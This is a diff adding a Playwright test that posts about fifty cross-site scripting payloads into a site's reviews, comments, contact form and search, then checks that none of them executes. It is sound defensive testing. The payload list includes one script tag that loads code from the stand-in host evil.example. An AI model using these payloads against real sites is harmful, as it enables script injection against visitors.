@@ -1,0 +1,151 @@
+import type { Browser, Page } from '@playwright/test';
+
+import { expect, test } from './fixtures';
+
+/**
+ * Known script-injection payloads, posted where visitors write (review names and messages,
+ * comments, contact messages) and used as search keywords. Every payload tries to run
+ * `alert()` or to set `window.__xss`; in Chromium no dialog may open and the flag must stay unset
+ * on every page that shows them.
+ */
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<script>window.__xss=1</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="window.__xss=1">',
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<body onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
+  '<a href="javascript:alert(1)">click</a>',
+  '[click](javascript:alert(1))',
+  '[x](javascript:window.__xss=1)',
+  '![x](x" onerror="alert(1))',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '<video><source onerror="alert(1)"></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<object data="javascript:alert(1)">',
+  '<embed src="javascript:alert(1)">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<style>@import "javascript:alert(1)";</style>',
+  '<link rel=stylesheet href="javascript:alert(1)">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<form action="javascript:alert(1)"><button>go</button></form>',
+  '<button formaction="javascript:alert(1)">go</button>',
+  '<div style="background:url(javascript:alert(1))">',
+  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
+  '<img src=x onerror=\\u0061lert(1)>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script src="data:text/javascript,alert(1)"></script>',
+  '"><img src=x onerror=alert(1)>',
+  '</textarea><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}',
+  'javascript:alert(1)',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<img src=`x` onerror=alert(1)>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+  '<x onpointerover=alert(1)>hover</x>',
+  '<div onmouseover="alert(1)">hover</div>',
+];
+
+/** A page that records any dialog, and whether a payload managed to set its flag. */
+async function watchedPage(browser: Browser, baseURL: string) {
+  const context = await browser.newContext({ baseURL });
+  const page = await context.newPage();
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  return { page, dialogs };
+}
+
+async function expectNothingRan(page: Page, dialogs: string[]) {
+  // Give delayed handlers (onload, onerror of failed images, autofocus) their moment.
+  await page.mouse.move(10, 10);
+  await page.mouse.move(300, 600);
+  await page.waitForTimeout(300);
+  expect(dialogs).toEqual([]);
+  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
+}
+
+test.describe('script injection', () => {
+  test.beforeEach(({}, testInfo) => {
+    test.skip(testInfo.project.name !== 'desktop', 'the payloads are the same at either width');
+  });
+
+  test(`${PAYLOADS.length} payloads in reviews, comments and contact messages never run`, async ({
+    browser,
+    baseURL,
+    request,
+  }) => {
+    test.setTimeout(240_000);
+    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
+    const property = 397;
+    const blog = 197;
+    for (const [i, payload] of PAYLOADS.entries()) {
+      const email = `xss${i}@example.com`;
+      const review = await request.post(`/property/${property}`, {
+        form: { name: payload.slice(0, 80), email, rating: '4', message: payload.slice(0, 300) },
+      });
+      expect(review.status(), `review ${i}`).toBe(200);
+      const comment = await request.post(`/blog/${blog}`, {
+        form: { name: payload.slice(0, 80), email, message: payload },
+      });
+      expect(comment.status(), `comment ${i}`).toBe(200);
+      const contact = await request.post('/contact-us', {
+        form: { name: 'Xavier', email, subject: payload.slice(0, 120), message: payload },
+      });
+      expect(contact.status(), `contact ${i}`).toBe(200);
+    }
+
+    const { page, dialogs } = await watchedPage(browser, baseURL!);
+    await page.goto(`/property/${property}`);
+    // Every payload is on the page, as text.
+    for (const payload of PAYLOADS.slice(0, 5)) {
+      await expect(page.getByText(payload.slice(0, 80), { exact: true }).first()).toBeAttached();
+    }
+    await expectNothingRan(page, dialogs);
+    await page.goto(`/blog/${blog}`);
+    await expect(page.getByText(PAYLOADS[0]!, { exact: true }).first()).toBeAttached();
+    await expectNothingRan(page, dialogs);
+    await page.context().close();
+  });
+
+  test(`${PAYLOADS.length} payloads as search keywords never run`, async ({ browser, baseURL }) => {
+    test.setTimeout(240_000);
+    const { page, dialogs } = await watchedPage(browser, baseURL!);
+    for (const payload of PAYLOADS) {
+      const keywords = encodeURIComponent(payload);
+      for (const url of [`/properties?keywords=${keywords}`, `/blogs?keywords=${keywords}`]) {
+        const response = await page.goto(url);
+        expect(response?.status(), url).toBe(200);
+        // The keywords are echoed back into the search box, as a value.
+        await expect(page.locator('input[name="keywords"]').first()).toHaveValue(
+          payload.trim().slice(0, 100),
+        );
+        expect(dialogs, url).toEqual([]);
+        expect(
+          await page.evaluate(() => (window as { __xss?: unknown }).__xss),
+          url,
+        ).toBeUndefined();
+      }
+    }
+    await page.context().close();
+  });
+});
